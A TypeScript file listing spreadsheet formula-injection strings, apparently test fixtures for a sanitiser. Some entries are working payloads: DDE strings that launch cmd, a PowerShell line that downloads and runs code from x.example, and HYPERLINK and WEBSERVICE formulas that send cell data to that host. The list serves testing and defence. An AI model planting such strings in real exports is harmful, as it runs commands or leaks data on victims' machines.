/** Sixty texts that have run as formulas in some spreadsheet, or that hide one. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1', '=1+1"', '=SUM(A1:A9)', '=HYPERLINK("http://x.example","klik")', '=HYPERLINK("http://x.example?"&A1,"a")', "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x.example)'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
  '=IMPORTXML("http://x.example","//a")', '=IMPORTDATA("http://x.example")', '=WEBSERVICE("http://x.example")', '=INDIRECT("A1")', '=RTD("a.b",,"c")', '=EXEC("calc")', '=CALL("Kernel32","WinExec","JCJ","calc",0)', '=REGISTER.ID("a","b")',
  '+1+1', '+SUM(1,1)', "+cmd|' /C calc'!A0", '+31 70 123 45 67', '-1+1', '-2+3', "-cmd|' /C calc'!A0", '-SUM(A1)', '@SUM(1+1)', "@cmd|' /C calc'!A0", '@A1', '@', '=', '+', '-', '=@A1',
  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '  +1', '\t@SUM(1)', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1+1", "''=1+1", "'@x", '=1+1\n=2+2', '=A1;=B1', '=1,=2', '";=1+1', '"\n=1+1', '=1+1;', '={1,2}', '=-1', '=+1',
  '=0x1', '=TRUE', '=Naam!A1', "='Blad 2'!A1", '=[a.xlsx]Blad!A1',
]
